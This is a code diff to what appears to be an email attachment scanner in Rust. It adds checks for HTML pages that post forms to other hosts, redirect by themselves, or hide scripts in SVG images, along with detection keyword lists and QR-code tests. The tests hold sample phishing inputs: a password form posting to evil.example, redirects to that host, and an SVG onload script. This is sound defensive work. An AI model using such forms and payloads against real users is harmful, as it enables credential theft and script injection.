@@ -152,8 +152,14 @@ struct HtmlFindings {
     is_there: bool,
     runs: bool,
     asks: bool,
-    /// True if a page makes a file out of its own text, which no filter on the way has seen.
+    /// True if a page makes a page or file out of its own text, which no filter on the way has seen.
     builds: bool,
+    /// True if a form is sent to another host.
+    posts: bool,
+    /// True if a page goes on to another by itself.
+    leads: bool,
+    /// True if an SVG image runs a script or holds a page.
+    svg_runs: bool,
 }
 
 /// Adds an item to a list without repeats, of at most [`ITEMS_MAX`].
@@ -208,6 +214,10 @@ impl Attachments {
             let mut kind = FileType::of(&file.content);
             let name = file.name.as_deref().map(|name| self.name(name, file.depth)).unwrap_or_default();
             self.packed.depth = self.packed.depth.max(file.depth);
+            // A page needs no more than a form to be one.
+            if kind == FileType::Text && name.is_page() {
+                kind = FileType::Html;
+            }
             self.belied |= kind.belies(name.ending(), file.media_type);
             match kind {
                 FileType::Zip => kind = self.unzip(&file, &mut waiting, budget),
@@ -231,7 +241,7 @@ impl Attachments {
                     self.office_found(office::rich_text(budget.cut_bytes(&file.content, STEPS_A_FILE_BYTE)));
                 }
                 FileType::Pdf => self.pdf(&file.content, budget),
-                FileType::Html | FileType::Svg => self.page(&file.content, budget),
+                FileType::Html | FileType::Svg => self.page(kind, &file.content, budget),
                 FileType::Calendar => self.calendar(&file.content, budget),
                 _ if kind.packs() => self.packed.is_unread = true,
                 _ => {}
@@ -453,16 +463,30 @@ impl Attachments {
         self.links(&links, budget);
     }
 
-    fn page(&mut self, content: &[u8], budget: &Budget) {
+    fn page(&mut self, kind: FileType, content: &[u8], budget: &Budget) {
         let source = budget.cut_bytes(&content[..content.len().min(TEXT_BYTES_MAX)], STEPS_A_TEXT_BYTE);
         let has = |mark: &[u8]| memmem::find(source, mark).is_some();
-        let builds = has(b"atob(") || has(b"new Blob(") || has(b"msSaveOrOpenBlob") || has(b"fromCharCode(");
+        let any = |marks: &[&[u8]]| marks.iter().any(|mark| has(mark));
+        let builds = any(&[
+            b"atob(",
+            b"new Blob(",
+            b"msSaveOrOpenBlob",
+            b"fromCharCode(",
+            b"document.write(unescape(",
+            b"eval(",
+        ]);
+        let leads = any(&[b"window.location", b"location.href", b"location.replace(", b"location.assign("]);
+        let svg_runs =
+            kind == FileType::Svg && any(&[b"<script", b"onload=", b"javascript:", b"<foreignObject"]);
         let source = String::from_utf8_lossy(source);
         let page = html::read(&source, PageLimits { text_bytes: 0, references: ITEMS_MAX }, budget);
         self.page.is_there = true;
         self.page.runs |= page.marks.has_script || page.marks.has_refresh || has(b"onload=");
         self.page.asks |= page.marks.has_form || page.marks.has_password;
         self.page.builds |= builds;
+        self.page.posts |= page.marks.posts;
+        self.page.leads |= page.marks.has_refresh || page.marks.has_script && leads;
+        self.page.svg_runs |= svg_runs;
         page.references.iter().all(|reference| self.link(&reference.target, budget));
     }
 
@@ -531,6 +555,9 @@ impl Attachments {
             (columns.page_attachment_script, self.page.runs),
             (columns.page_attachment_form, self.page.asks),
             (columns.page_attachment_builds, self.page.builds),
+            (columns.page_attachment_posts, self.page.posts),
+            (columns.page_attachment_leads, self.page.leads),
+            (columns.svg_script, self.page.svg_runs),
         ] {
             facts.set(slot, is);
         }
@@ -625,5 +652,66 @@ mod tests {
         assert!(found.office.macros && found.kinds == ["office"]);
         let found = look("i.ics", b"BEGIN:VCALENDAR\nMETHOD:CANCEL\n");
         assert_eq!(found.invitation.method.as_deref(), Some("cancel"));
+    }
+
+    #[test]
+    fn pages_are_looked_through_for_what_they_do() {
+        let page = |name: &str, content: &[u8]| look(name, content).page;
+        assert!(page("fax.htm", b"<form action='https://evil.example/in.php'><input type=password>").posts);
+        assert!(!page("fax.txt", b"<form action='https://evil.example/in.php'>").is_there);
+        assert!(
+            page("a.html", b"<meta http-equiv=refresh content='0;url=https://evil.example/'><script>").leads
+        );
+        assert!(page("a.html", b"<script>window.location='//evil.example'</script>").leads);
+        assert!(!page("a.html", b"<html>Write window.location in your script").leads);
+        assert!(page("a.svg", b"<svg onload=alert(1)></svg>").svg_runs);
+        assert!(page("a.svg", b"<svg><foreignObject><body/></foreignObject></svg>").svg_runs);
+        assert!(!page("a.svg", b"<svg><path d='M0 0'/></svg>").svg_runs);
+        assert!(!page("a.html", b"<html><script></script>").svg_runs);
+    }
+
+    /// Links of QR codes in a file.
+    fn codes(name: &str, content: &[u8]) -> Vec<String> {
+        let mut found = look(name, content);
+        found.read_codes(&Budget::ample());
+        assert_eq!(found.codes.count, found.codes.links.len(), "{name}");
+        found.codes.links
+    }
+
+    #[test]
+    fn codes_are_looked_for_in_images_and_documents() {
+        let link = "https://login.example.com/?a=b";
+        let png = corpora::qr_png(link);
+        assert_eq!(codes("a.png", &png), [link]);
+        let archive = zip::tests::archive(&[("a.png", &png)], None);
+        assert_eq!(codes("a.zip", &archive), [link]);
+        for (file, name) in [("jpeg-code", "a.jpg"), ("gif-code", "a.gif"), ("pdf-code", "a.pdf")] {
+            let path = format!("{}/../../fuzz/seeds/picture/{file}", env!("CARGO_MANIFEST_DIR"));
+            assert_eq!(
+                codes(name, &std::fs::read(&path).unwrap()[1..]),
+                ["https://example.com/login?x=1"],
+                "{file}"
+            );
+        }
+        let (side, dark) = corpora::qr_modules(link);
+        let is_dark = |at: usize| dark[at / (side * 4) / 4 * side + at % (side * 4) / 4];
+        let pixels: Vec<u8> = (0..side * side * 16).map(|at| if is_dark(at) { 0 } else { 255 }).collect();
+        let head = format!(
+            "%PDF-1.4\n1 0 obj<</Subtype/Image/Width {0}/Height {0}/BitsPerComponent 8>>stream\n",
+            side * 4
+        );
+        assert_eq!(codes("a.pdf", &[head.as_bytes(), &pixels, b"\nendstream"].concat()), [link]);
+    }
+
+    #[test]
+    fn pictures_that_cannot_be_paid_for_are_said() {
+        let png = corpora::qr_png("https://example.com/");
+        let mut found = look("a.png", &png);
+        let budget = Budget::of_steps(30_000, &crate::budget::Cancellation::default());
+        found.read_codes(&budget);
+        assert!(found.codes.count == 0 && found.images_unread && !budget.is_short());
+        let mut found = look("a.png", &png[..40]);
+        found.read_codes(&Budget::ample());
+        assert!(!found.images_unread);
     }
 }
